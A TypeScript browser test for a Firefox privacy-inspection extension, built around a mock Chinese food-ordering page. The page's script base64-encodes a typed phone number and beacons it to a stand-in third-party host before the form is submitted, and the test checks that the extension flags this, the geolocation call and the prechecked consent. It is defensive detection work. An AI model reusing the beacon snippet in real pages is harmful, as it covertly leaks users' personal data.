import type { Inspection } from '../../src/core/model/inspection'
import { type Pages, servePages } from '../fixtures/pages'
import { ask, expect, openExtensionPage, openPage, popupPath, tabOf, test, until } from './firefox'

const SHOP = `<!doctype html><html lang=zh><head><meta charset=utf-8><title>扫码点餐 桌号A1</title><script>
  navigator.geolocation.getCurrentPosition(() => {}, () => {})
  fetch('/early?step=fetch').catch(() => {})
</script></head><body><h1>点餐</h1><form>
  <label>手机号 <input id=phone type=tel required></label>
  <label><input type=checkbox checked> 我已阅读并同意《隐私政策》</label>
  <button>提交订单</button></form>
<script>document.querySelector('#phone').addEventListener('input', (e) => {
  if (e.target.value.length === 11)
    navigator.sendBeacon('http://collector.localhost:' + location.port + '/track', JSON.stringify({ m: btoa(e.target.value) }))
})</script></body></html>`

let pages: Pages

test.beforeAll(async () => {
  pages = await servePages({ '/t': SHOP })
})

test.afterAll(() => pages.close())

test('inspects a page from before its first script to what a third party got', async ({ firefox, options }) => {
  const url = pages.url('/t?table=A1')
  const page = await openPage(firefox)
  await page.goto(url)
  await page.type('#phone', '13912345678')

  const tab = await tabOf(options, url)
  const inspect = async (): Promise<Inspection | null> => ask(options, 'inspection.get', { tab })
  await expect
    .poll(async () => (await inspect())?.transmissions.some((t) => t.items.some((item) => item.category === 'phone')), {
      timeout: 30_000,
    })
    .toBe(true)

  const inspection = (await inspect())!
  expect(inspection.browser.name).toBe('Firefox')
  expect(inspection.accesses.map((access) => access.api)).toContain('navigator.geolocation.getCurrentPosition')
  expect(inspection.transmissions.find((t) => t.url.includes('step=fetch'))?.seenBy.toSorted()).toEqual([
    'browser',
    'page',
  ])
  expect(inspection.fields.map((field) => [field.category, field.required])).toContainEqual(['phone', true])
  const leak = inspection.transmissions.find((t) => t.recipient.host.startsWith('collector.'))!
  expect(leak.recipient.party).toBe('third')
  expect(leak.items.map((item) => [item.category, item.encoding])).toEqual([['phone', ['base64']]])
  expect(inspection.consent.some((consent) => consent.prechecked)).toBe(true)
  expect(inspection.findings.map((finding) => finding.rule)).toContain('cn.third_party_before_submit')
  expect(JSON.stringify(inspection)).not.toContain('13912345678')

  const popup = await openExtensionPage(firefox, `${popupPath}?tab=${tab}`)
  await until(popup, () => document.body.textContent.includes('collector.localhost'))
  expect(await popup.evaluate(() => document.body.textContent)).toMatch(/phone number/i)
  await popup.close()
  await page.close()
})
